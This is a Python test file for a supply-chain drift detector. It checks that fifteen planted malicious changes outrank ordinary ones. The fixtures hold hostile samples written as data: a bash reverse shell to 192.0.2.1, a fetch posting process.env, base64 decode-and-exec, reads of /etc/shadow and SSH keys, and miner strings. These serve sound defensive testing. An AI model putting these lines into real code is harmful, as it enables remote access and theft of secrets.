"""Fifteen planted changes among ordinary ones: each is the first of its comparison, and no ordinary one is severe."""

from hashlib import sha256

import pytest
from tests.support.hardened import hardened

from careen.behaviour.capabilities import profile
from careen.behaviour.drift import drifts
from careen.behaviour.files import ExaminedFile
from careen.model.behaviour import Examined, Profile

LIBRARY = "usr/lib/x86_64-linux-gnu/lib{}.so.{}"


def program(*imports, texts=()):
    return hardened((*imports, "malloc", "memcpy")) + b"\0" + b"\0".join(texts) + b"\0"


def examined(version, files):
    """``files`` are (path, package, kind, content); the digest is of the content, as a scan makes it."""
    profiles, findings = [], []
    for path, package, kind, content in files:
        content, mode = content if isinstance(content, tuple) else (content, 0o755)
        purl = f"pkg:{package}@{version}" if package else ""
        names, found = profile(ExaminedFile(path, 0, kind, content, owner=purl, mode=mode))
        profiles.append(Profile(path, 0, names, purl, sha256(content).hexdigest()))
        findings += found
    return Examined(len(profiles), tuple(profiles), tuple(findings))


ORDINARY = [
    ("usr/bin/tool", "deb/debian/tool", "program", program("connect", "execve"), program("connect", "execve", "dlsym")),
    ("usr/bin/fetch", "deb/debian/fetch", "program", program("connect"), program("connect", "EVP_EncryptInit_ex")),
    ("app/server.py", "", "python", b"import json\n", b"import json\nvalue = zlib.decompress(x)\n"),
    ("app/a.js", "npm/a", "javascript", b"f(1)", b"String.fromCharCode(65)"),
    (LIBRARY.format("new", 1), "deb/debian/libnew", "program", program("dlopen"), program("dlopen", "dlsym")),
]
PLANTED = {
    "a compression library resolves and changes code": (
        LIBRARY.format("lzma", 5), "deb/debian/liblzma5", "program", program(),
        program("dlsym", "mprotect", "_r_debug", texts=(b"RSA_public_decrypt",)),
    ),
    "a font parser opens connections": (
        LIBRARY.format("font", 6), "deb/debian/libfont6", "program", program(), program("connect", "getaddrinfo"),
    ),
    "an image library starts programs": (
        LIBRARY.format("png", 16), "deb/debian/libpng16", "program", program(), program("execve", texts=(b"/bin/sh",)),
    ),
    "a text library listens": (
        LIBRARY.format("text", 1), "deb/debian/libtext1", "program", program(), program("listen", "accept"),
    ),
    "an archiver reads credentials": (
        "usr/bin/pack", "deb/debian/pack", "program", program(), program(texts=(b"/etc/shadow", b".ssh/id_rsa")),
    ),
    "a calculator traces processes": ("usr/bin/calc", "deb/debian/calc", "program", program(), program("ptrace")),
    "a logger mines": (
        "usr/bin/logger", "deb/debian/logger", "program", program("connect"),
        program("connect", texts=(b"stratum+tcp://", b"randomx")),
    ),
    "a package of npm sends the environment": (
        "app/node_modules/left/index.js", "npm/left", "javascript", b"module.exports = (s) => s",
        b"fetch(u, {method: 'POST', body: JSON.stringify(process.env)})",
    ),
    "a package of PyPI decodes and executes": (
        "usr/lib/python3/site-packages/colour/__init__.py", "pypi/colour", "python", b"RED = 1\n",
        b"import base64\nexec(base64.b64decode(X))\n",
    ),
    "a script of nobody gives away a shell": (
        "opt/run.sh", "", "shell", b"echo started\n", b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
    ),
    "a package of npm runs code when it is installed": (
        "app/node_modules/pad/package.json", "npm/pad", "manifest", b'{"name": "pad", "scripts": {"test": "x"}}',
        b'{"name": "pad", "scripts": {"test": "x", "postinstall": "node setup.js"}}',
    ),
    "a program gives the rights of its owner": (
        "usr/bin/show", "deb/debian/show", "program", (program(), 0o755), (program(), 0o4755),
    ),
    "a library takes the place of the memory allocator": (
        LIBRARY.format("zip", 4), "deb/debian/libzip4", "program", program(), hardened(("memcpy",), exports=("__malloc_hook",)),
    ),
    "a unit of systemd starts a program": (
        "etc/systemd/system/report.service", "", "unit", b"[Unit]\nDescription=Reports\n",
        b"[Unit]\nDescription=Reports\n[Service]\nExecStartPre=-/opt/report\n",
    ),
    "an exporter listens": (
        "opt/export.py", "", "python", b"import socket\n", b"import socket\nserver = socket.socket()\nserver.listen(5)\n",
    ),
}  # fmt: skip


def compared(changes):
    old = examined("1", [(path, package, kind, before) for path, package, kind, before, _ in changes])
    new = examined("2", [(path.replace(".so.1", ".so.2"), package, kind, after) for path, package, kind, _, after in changes])
    return drifts(old, new)


@pytest.mark.parametrize("name", PLANTED)
def test_a_planted_change_is_first(name):
    found = compared([*ORDINARY, PLANTED[name]])
    assert found[0].path.replace(".so.2", ".so.1") == PLANTED[name][0]
    assert found[0].score > found[1].score


def test_ordinary_changes_are_not_severe():
    assert {drift.severity for drift in compared(ORDINARY)} <= {"low"}


def test_nothing_changes_between_equal_versions():
    same = [(path, package, kind, before, before) for path, package, kind, before, _ in ORDINARY]
    assert compared(same) == []


def test_a_package_that_only_the_new_one_has_is_no_drift():
    _, package, kind, before, after = PLANTED["a font parser opens connections"]
    assert drifts(examined("1", [("usr/bin/a", "deb/a", kind, before)]), examined("2", [("x.so", package, kind, after)])) == []


def test_what_another_file_of_the_package_could_do_weighs_less():
    old = examined("1", [("usr/bin/a", "deb/a", "program", program("connect")), ("usr/bin/b", "deb/a", "program", program())])
    new = examined(
        "2", [("usr/bin/a", "deb/a", "program", program("connect")), ("usr/bin/b", "deb/a", "program", program("connect"))]
    )
    (drift,) = drifts(old, new)
    assert (drift.gained, drift.severity, drift.before) == (("net/connect",), "low", "pkg:deb/a@1")


def test_a_chain_that_the_old_version_of_a_library_had_is_not_new():
    path, package, kind, _, chain = PLANTED["a compression library resolves and changes code"]
    more = program("dlsym", "mprotect", "connect", "_r_debug", texts=(b"RSA_public_decrypt",))
    (drift,) = compared([(path, package, kind, chain, more)])
    assert (drift.chains, drift.gained) == ((), ("net/connect",))
    assert compared([(path, package, kind, program(), more)])[0].chains
